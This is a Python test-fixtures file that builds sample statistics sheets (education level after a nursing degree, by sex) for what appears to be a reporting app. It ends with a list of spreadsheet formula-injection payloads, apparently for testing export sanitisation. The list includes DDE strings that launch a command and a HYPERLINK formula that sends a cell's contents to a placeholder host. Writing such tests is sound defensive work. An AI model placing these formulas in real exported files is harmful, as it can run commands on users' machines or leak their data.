"""Build small sheets by hand: one like the app's example, one with groups, one compared."""

from dataclasses import replace
from pathlib import Path

import pandas as pd
import pytest

from core.choice.selection import Selection
from core.deliveries.catalogue import Measure, Perspective
from core.deliveries.store import Delivery, Unit
from core.numbers.figure import Block
from core.numbers.pivot import Pivot, lay_out
from core.numbers.sheet import KeyFigure, Sheet
from core.numbers.statistics import arrange, roll_up, tabulate
from tests.core import example_tables

CELLS = {  # women, men; None is suppressed, "" is not delivered
    "Hög": (1200, 300),
    "Låg": (7, None),
    "Okänd nivå": (0, ""),
    "Uppgift saknas": (5, 6),
}
ROLLUP = {"Känd": ("Hög", "Låg")}


def block(key: str, label: str, cells: dict[str, tuple[object, object]]) -> Block:
    rows = [
        {
            "unit_code": "VGSJU", "period_start": 2014, "period_end": 2019,
            "split_category": "", "category": category, "sex": sex,
            "count": 2.5 if count is None else float("nan") if count == "" else float(count),
            "ratio": float("nan"), "base": float("nan"),
            "status": "suppressed" if count is None else "missing" if count == "" else "value",
        }
        for category, counts in cells.items()
        for sex, count in zip(("women", "men"), counts, strict=True)
    ]  # fmt: skip
    return example_tables.block(key, label, pd.DataFrame(rows))


def build(blocks: list[Block], *, example: bool = True, groups: bool = False) -> Sheet:
    measure = Measure(
        id="level", title="Utbildningsnivå", short="Nivå", question="Vilken nivå?",
        definition="Högsta nivå.", source="Registret", unit_types={"outcomes": ("degree",)},
        kind="nominal", aliases=(), caveats=("Åldern spelar in.",), rollup=ROLLUP,
        residuals=("Uppgift saknas",),
    )  # fmt: skip
    delivery = Delivery(
        id="exempel", folder=Path("exempel"), title="Höstens uttag", institution="Testhögskolan",
        source="Statistikmyndigheten", drawn="2025-03-01", population="Alla", notes=("Not.",),
        example=example, checksum="", rows=8,
    )  # fmt: skip
    figure = tabulate(blocks, measure, str)
    shown = arrange(roll_up(figure) if groups else figure, "given", None, "")
    title = "Nivå ett år efter examen: Sjuksköterskeexamen, Testhögskolan, 2014–2019"
    return Sheet(
        delivery=delivery,
        perspective=Perspective("outcomes", "Efter", "Framgrund", "Vart?", "Alla med examen"),
        selection=Selection(
            units=("degree.VGSJU",), periods=("2014-2019",), measure="level", order="given"
        ),
        measure=measure,
        units=(Unit("degree", "VGSJU", "Sjuksköterskeexamen"),),
        title=title,
        sex="total",
        base="Andel inom könet",
        base_of_total="Andel av alla",
        finding="Vanligast är Hög.",
        keys=(KeyFigure("Totalt", "1\u202f520,5", "1 maskerad cell"),),
        figure=figure,
        shown=shown,
        developments=(),
        notes=("Celler med 1–4 personer är maskerade.",),
        source="Källa: Registret. Leverans: Höstens uttag, uttag 1 mars 2025.",
    )


@pytest.fixture
def sheet() -> Sheet:
    return build([block("a", "2014–2019", CELLS)])


@pytest.fixture
def pivot(sheet: Sheet) -> Pivot:
    return lay_out(sheet.shown)


@pytest.fixture
def real() -> Sheet:
    """Give a sheet that is not of example data."""
    return build([block("a", "2014–2019", CELLS)], example=False)


@pytest.fixture
def grouped() -> Sheet:
    return build([block("a", "2014–2019", CELLS)], groups=True)


@pytest.fixture
def compared() -> Sheet:
    later = dict.fromkeys(CELLS, (8, 4))
    return build([block("a", "2008–2013", CELLS), block("b", "2014–2019", later)])


PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    '=HYPERLINK("http://exempel.invalid?"&A1;"Klicka")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    ";=1+1",
    '"=1+1',
)


def relabelled(sheet: Sheet, label: str) -> Sheet:
    """Give every row of a sheet, and its title, a text of somebody's choice."""
    rows = tuple(replace(row, label=label) for row in sheet.shown.rows)
    return replace(sheet, title=label, shown=replace(sheet.shown, rows=rows))
